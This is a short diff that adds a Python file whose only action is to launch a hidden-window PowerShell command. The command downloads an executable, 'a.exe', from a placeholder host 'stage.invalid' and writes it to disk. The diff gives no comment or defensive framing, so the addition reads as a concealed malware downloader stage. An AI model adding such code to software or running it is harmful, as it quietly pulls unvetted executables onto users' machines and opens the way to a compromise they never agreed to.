@@ -1,0 +1,3 @@
+import subprocess
+
+subprocess.Popen("powershell -WindowStyle Hidden -Command Invoke-WebRequest http://stage.invalid/a.exe -OutFile a.exe", shell=True)
